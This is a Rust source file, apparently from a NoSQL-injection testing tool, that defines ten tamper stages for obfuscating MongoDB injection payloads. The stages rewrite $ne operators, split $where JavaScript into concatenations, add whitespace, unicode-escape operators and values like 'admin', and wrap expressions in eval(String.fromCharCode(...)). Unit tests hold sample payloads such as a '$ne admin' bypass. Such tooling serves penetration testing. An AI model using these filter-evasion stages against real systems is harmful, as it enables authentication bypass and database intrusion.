//! The ten built-in tamper stages. Priorities mirror the reference
//! tool's `PRIORITIES` table: logic rewrites run first (10-20), then
//! whitespace noise (40-50), then unicode/hex encodings last (70-90) so
//! later stages see already-rewritten text rather than the original
//! structured document.

use indexmap::IndexMap;
use rand::Rng;
use rand::RngCore;

use super::{TamperInput, TamperStage};
use crate::value::Value;

fn to_text(input: TamperInput) -> String {
    input.into_text()
}

// --- logic_inversion : priority 10 -----------------------------------

pub struct LogicInversion;

impl TamperStage for LogicInversion {
    fn name(&self) -> &'static str {
        "logic_inversion"
    }
    fn priority(&self) -> i32 {
        10
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        match input {
            TamperInput::Structured(v) => Ok(TamperInput::Structured(invert(&v))),
            // String input can't be structurally rewritten; tolerate it unchanged.
            text @ TamperInput::Text(_) => Ok(text),
        }
    }
}

fn invert(v: &Value) -> Value {
    match v {
        Value::Object(map) => {
            let mut out = IndexMap::new();
            for (k, val) in map {
                if k == "$ne" {
                    let mut inner = IndexMap::new();
                    inner.insert("$eq".to_string(), invert(val));
                    out.insert("$not".to_string(), Value::Object(inner));
                } else {
                    out.insert(k.clone(), invert(val));
                }
            }
            Value::Object(out)
        }
        Value::Array(items) => Value::Array(items.iter().map(invert).collect()),
        other => other.clone(),
    }
}

// --- js_concat : priority 20 ------------------------------------------

pub struct JsConcat;

impl TamperStage for JsConcat {
    fn name(&self) -> &'static str {
        "js_concat"
    }
    fn priority(&self) -> i32 {
        20
    }
    fn apply(&self, input: TamperInput, rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let value = match input {
            TamperInput::Structured(v) => v,
            TamperInput::Text(s) => Value::from_json(serde_json::from_str(&s)?),
        };
        let rewritten = match &value {
            Value::Object(map) if map.contains_key("$where") => {
                let mut out = map.clone();
                if let Some(Value::Str(expr)) = map.get("$where") {
                    out.insert("$where".to_string(), Value::Str(concat_expr(expr, rng)));
                }
                Value::Object(out)
            }
            other => other.clone(),
        };
        Ok(TamperInput::Structured(rewritten))
    }
}

/// Splits `expr` into random 1-3 char chunks and rejoins as a JS string
/// concatenation, e.g. `'th'+'i'+'s.x'+'=='+'1'` for `this.x==1`.
fn concat_expr(expr: &str, rng: &mut dyn RngCore) -> String {
    let chars: Vec<char> = expr.chars().collect();
    if chars.len() < 2 {
        return format!("'{}'", expr.replace('\'', "\\'"));
    }
    let mut pieces = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let chunk_len = rng.gen_range(1..=3);
        let end = (i + chunk_len).min(chars.len());
        let piece: String = chars[i..end].iter().collect();
        pieces.push(format!("'{}'", piece.replace('\'', "\\'")));
        i = end;
    }
    pieces.join("+")
}

// --- random_whitespace : priority 40 -----------------------------------

pub struct RandomWhitespace;

const WHITESPACE_NOISE: &[&str] = &[" ", "\t", "\n", "\r\n", "  ", "\t\t"];

impl TamperStage for RandomWhitespace {
    fn name(&self) -> &'static str {
        "random_whitespace"
    }
    fn priority(&self) -> i32 {
        40
    }
    fn apply(&self, input: TamperInput, rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        let mut out = String::with_capacity(text.len() * 2);
        let mut in_string = false;
        let mut escaped = false;
        for c in text.chars() {
            out.push(c);
            if in_string {
                if escaped {
                    escaped = false;
                } else if c == '\\' {
                    escaped = true;
                } else if c == '"' {
                    in_string = false;
                }
                continue;
            }
            if c == '"' {
                in_string = true;
                continue;
            }
            if matches!(c, '{' | '[' | ',' | ':') && rng.gen::<f64>() > 0.6 {
                let count = rng.gen_range(1..=3);
                for _ in 0..count {
                    let noise = WHITESPACE_NOISE[rng.gen_range(0..WHITESPACE_NOISE.len())];
                    out.push_str(noise);
                }
            }
        }
        Ok(TamperInput::Text(out))
    }
}

// --- space_to_newline / space_to_tab : priority 50 ---------------------

pub struct SpaceToNewline;

impl TamperStage for SpaceToNewline {
    fn name(&self) -> &'static str {
        "space_to_newline"
    }
    fn priority(&self) -> i32 {
        50
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        Ok(TamperInput::Text(insert_delimiter_whitespace(&text, '\n', true)))
    }
}

pub struct SpaceToTab;

impl TamperStage for SpaceToTab {
    fn name(&self) -> &'static str {
        "space_to_tab"
    }
    fn priority(&self) -> i32 {
        50
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        Ok(TamperInput::Text(insert_delimiter_whitespace(&text, '\t', false)))
    }
}

/// Inserts `ws` right after `:`, `,` and `{` (outside string literals),
/// and right before `}` too when `also_before_close_brace` is set
/// (space_to_newline only, matching the reference tool's pairing of
/// the opening and closing brace).
fn insert_delimiter_whitespace(text: &str, ws: char, also_before_close_brace: bool) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    let mut in_string = false;
    let mut escaped = false;
    for c in text.chars() {
        if in_string {
            out.push(c);
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                in_string = false;
            }
            continue;
        }
        if c == '"' {
            in_string = true;
            out.push(c);
            continue;
        }
        if also_before_close_brace && c == '}' {
            out.push(ws);
        }
        out.push(c);
        if matches!(c, ':' | ',' | '{') {
            out.push(ws);
        }
    }
    out
}

// --- unicode_dollar : priority 70 ---------------------------------------

pub struct UnicodeDollar;

impl TamperStage for UnicodeDollar {
    fn name(&self) -> &'static str {
        "unicode_dollar"
    }
    fn priority(&self) -> i32 {
        70
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        Ok(TamperInput::Text(text.replace('$', "\\u0024")))
    }
}

// --- unicode_keys / unicode_values : priority 80 -----------------------

const TARGET_KEYS: &[&str] = &[
    "$ne", "$gt", "$where", "$regex", "$expr", "username", "password", "email", "id",
];
const TARGET_VALUES: &[&str] = &["admin", "root", "true", "1234", "return", "success"];

fn escape_word(word: &str) -> String {
    word.chars().map(|c| format!("\\u{:04x}", c as u32)).collect()
}

fn replace_targets(text: &str, targets: &[&str]) -> String {
    let mut out = text.to_string();
    for target in targets {
        out = out.replace(target, &escape_word(target));
    }
    out
}

pub struct UnicodeKeys;

impl TamperStage for UnicodeKeys {
    fn name(&self) -> &'static str {
        "unicode_keys"
    }
    fn priority(&self) -> i32 {
        80
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        Ok(TamperInput::Text(replace_targets(&text, TARGET_KEYS)))
    }
}

pub struct UnicodeValues;

impl TamperStage for UnicodeValues {
    fn name(&self) -> &'static str {
        "unicode_values"
    }
    fn priority(&self) -> i32 {
        80
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        Ok(TamperInput::Text(replace_targets(&text, TARGET_VALUES)))
    }
}

// --- unicode_random : priority 85 ---------------------------------------

pub struct UnicodeRandom;

impl TamperStage for UnicodeRandom {
    fn name(&self) -> &'static str {
        "unicode_random"
    }
    fn priority(&self) -> i32 {
        85
    }
    fn apply(&self, input: TamperInput, rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let text = to_text(input);
        let mut in_string = false;
        let mut escaped = false;
        let mut out = String::with_capacity(text.len());
        for c in text.chars() {
            if in_string {
                if escaped {
                    escaped = false;
                    out.push(c);
                    continue;
                }
                if c == '\\' {
                    escaped = true;
                    out.push(c);
                    continue;
                }
                if c == '"' {
                    in_string = false;
                    out.push(c);
                    continue;
                }
                if rng.gen::<f64>() > 0.5 {
                    out.push_str(&format!("\\u{:04x}", c as u32));
                } else {
                    out.push(c);
                }
                continue;
            }
            if c == '"' {
                in_string = true;
            }
            out.push(c);
        }
        Ok(TamperInput::Text(out))
    }
}

// --- ascii_hex_encoding : priority 90 ------------------------------------

pub struct AsciiHexEncoding;

impl TamperStage for AsciiHexEncoding {
    fn name(&self) -> &'static str {
        "ascii_hex_encoding"
    }
    fn priority(&self) -> i32 {
        90
    }
    fn apply(&self, input: TamperInput, _rng: &mut dyn RngCore) -> anyhow::Result<TamperInput> {
        let value = input.into_value()?;
        let rewritten = match &value {
            Value::Object(map) if map.contains_key("$where") => {
                let mut out = map.clone();
                if let Some(Value::Str(expr)) = map.get("$where") {
                    let codes: Vec<String> = expr.chars().map(|c| (c as u32).to_string()).collect();
                    out.insert(
                        "$where".to_string(),
                        Value::Str(format!("eval(String.fromCharCode({}))", codes.join(","))),
                    );
                }
                Value::Object(out)
            }
            other => other.clone(),
        };
        Ok(TamperInput::Text(serde_json::to_string(&rewritten.to_json())?))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn rng() -> rand::rngs::StdRng {
        rand::rngs::StdRng::seed_from_u64(42)
    }

    #[test]
    fn logic_inversion_replaces_ne_with_not_eq() {
        let payload = Value::from_json(serde_json::json!({"$ne": "admin"}));
        let out = LogicInversion.apply(TamperInput::Structured(payload), &mut rng()).unwrap();
        let text = out.into_text();
        assert!(text.contains("$not"));
        assert!(text.contains("$eq"));
        assert!(!text.contains("$ne"));
    }

    #[test]
    fn ascii_hex_encoding_wraps_where_clause() {
        let payload = Value::from_json(serde_json::json!({"$where": "1==1"}));
        let out = AsciiHexEncoding
            .apply(TamperInput::Structured(payload), &mut rng())
            .unwrap()
            .into_text();
        assert!(out.contains("eval(String.fromCharCode("));
    }

    #[test]
    fn ascii_hex_encoding_is_noop_without_where_clause() {
        let payload = Value::from_json(serde_json::json!({"username": "admin"}));
        let out = AsciiHexEncoding
            .apply(TamperInput::Structured(payload), &mut rng())
            .unwrap()
            .into_text();
        assert!(!out.contains("eval"));
    }

    #[test]
    fn unicode_dollar_escapes_all_dollar_signs() {
        let out = UnicodeDollar
            .apply(TamperInput::Text("{\"$ne\":1}".to_string()), &mut rng())
            .unwrap()
            .into_text();
        assert!(!out.contains('$'));
        assert!(out.contains("\\u0024"));
    }

    #[test]
    fn unicode_keys_targets_known_operator_names_only() {
        let out = UnicodeKeys
            .apply(TamperInput::Text("{\"username\":\"bob\"}".to_string()), &mut rng())
            .unwrap()
            .into_text();
        assert!(!out.contains("username"));
        assert!(out.contains("bob"));
    }

    #[test]
    fn js_concat_rewrites_where_expression() {
        let payload = Value::from_json(serde_json::json!({"$where": "this.x==1"}));
        let out = JsConcat
            .apply(TamperInput::Structured(payload), &mut rng())
            .unwrap();
        if let TamperInput::Structured(Value::Object(map)) = out {
            match map.get("$where") {
                Some(Value::Str(s)) => {
                    assert!(s.contains('+'));
                    assert!(s.starts_with('\''));
                }
                _ => panic!("expected rewritten $where string"),
            }
        } else {
            panic!("expected structured output");
        }
    }

    #[test]
    fn js_concat_escapes_single_quotes() {
        let out = concat_expr("it's", &mut rng());
        assert!(out.contains("\\'"));
        assert!(!out.contains('"'));
    }

    #[test]
    fn space_to_newline_inserts_after_delimiters_and_before_close_brace() {
        let out = SpaceToNewline
            .apply(TamperInput::Text("{\"a\":1,\"b\":2}".to_string()), &mut rng())
            .unwrap()
            .into_text();
        assert_eq!(out, "{\n\"a\":\n1,\n\"b\":\n2\n}");
    }

    #[test]
    fn space_to_tab_inserts_after_delimiters_only() {
        let out = SpaceToTab
            .apply(TamperInput::Text("{\"a\":1,\"b\":2}".to_string()), &mut rng())
            .unwrap()
            .into_text();
        assert_eq!(out, "{\t\"a\":\t1,\t\"b\":\t2}");
    }
}
